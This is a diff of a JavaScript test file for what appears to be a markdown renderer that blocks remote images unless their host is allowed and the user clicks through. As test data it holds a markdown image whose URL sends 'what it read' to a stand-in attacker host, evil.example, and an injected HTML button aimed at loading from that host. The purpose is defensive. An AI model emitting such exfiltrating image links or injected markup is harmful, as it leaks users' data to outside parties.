@@ -91,19 +91,52 @@ test.each([
 test.each([
   ["full", renderFull],
   ["simple", renderSimple],
-])("only images over https are loaded in the %s rendering", (_, render) => {
-  const { html } = render(
-    "![kept](https://example.com/a.png) ![one](http://example.com/a.png) ![two](//example.com/a.png) ![three](a.png) ![four](data:image/png;base64,AAAA)",
-  );
-  expect(attributesOf(html, "img")).toEqual([
+])(
+  "only images over https from hosts that were asked for are loaded in the %s rendering",
+  (_, render) => {
+    const { html } = render(
+      "![kept](https://example.com/a.png) ![one](http://example.com/a.png) ![two](//example.com/a.png) ![three](a.png) ![four](data:image/png;base64,AAAA)",
+      ["example.com"],
+    );
+    expect(attributesOf(html, "img")).toEqual([
+      {
+        src: "https://example.com/a.png",
+        alt: "kept",
+        loading: "lazy",
+        referrerPolicy: "no-referrer",
+      },
+    ]);
+    for (const alt of ["one", "two", "three", "four"]) expect(html).toContain(alt);
+  },
+);
+
+test.each([
+  ["full", renderFull],
+  ["simple", renderSimple],
+])("an image waits behind a button that names its host in the %s rendering", (_, render) => {
+  const markdown =
+    '![a "b"](https://user@Evil.Example:8443/?q=what+it+read) ![c](https://example.com/c.png)';
+  const { html } = render(markdown, ["example.com", "evil.example"]);
+  expect(html).not.toContain("q=what");
+  expect(attributesOf(html, "img")).toMatchObject([{ src: "https://example.com/c.png" }]);
+  expect(attributesOf(html, "button")).toEqual([
     {
-      src: "https://example.com/a.png",
-      alt: "kept",
-      loading: "lazy",
-      referrerPolicy: "no-referrer",
+      type: "submit",
+      form: "remote-images",
+      name: "host",
+      value: "evil.example:8443",
+      className: ["remote-image"],
     },
   ]);
-  for (const alt of ["one", "two", "three", "four"]) expect(html).toContain(alt);
+  expect(html).toContain("Show images from evil.example:8443");
+});
+
+test.each([
+  ["full", renderFull],
+  ["simple", renderSimple],
+])("a text cannot bring a button of its own in the %s rendering", (_, render) => {
+  const own = '<button form="remote-images" name="host" value="evil.example">Next page</button>';
+  expect(attributesOf(render(own).html, "button")).toEqual([]);
 });
 
 test("harmless HTML stays, and its ids cannot be those of the page", () => {
